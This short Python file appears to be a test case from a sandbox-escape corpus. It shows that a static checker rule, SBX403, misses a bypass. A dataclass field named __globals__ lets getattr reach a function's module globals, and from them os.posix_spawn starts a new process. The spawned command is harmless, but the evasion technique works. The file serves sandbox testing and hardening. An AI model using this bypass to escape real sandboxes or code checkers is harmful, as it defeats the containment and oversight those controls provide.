# family: field_names
# reaches: process
# layer: static
# static: missed
# SBX403 admits getattr(obj, f.name) on any object but a module when f loops over
# dataclasses.fields(...) (safeLoopName): field names are taken for public identifiers. Route:
# a dataclass may annotate a dunder, `__globals__: object = None`, and fields() lists it like
# any other; getattr(render, "__globals__") on the program's own function hands over the
# module's globals, and os.posix_spawn is called on the os module taken from that dict.
import os
from dataclasses import dataclass, fields


@dataclass
class Row:
    name: str = "a"
    __globals__: object = None


def render():
    return "ok"


found = [getattr(render, f.name, None) for f in fields(Row)]
host = found[-1]["os"]
pid = host.posix_spawn("/usr/bin/python3", ["python3", "-c", "print('reached: process')"], {})
print(host.waitpid(pid, 0))
print(os.getcwd())
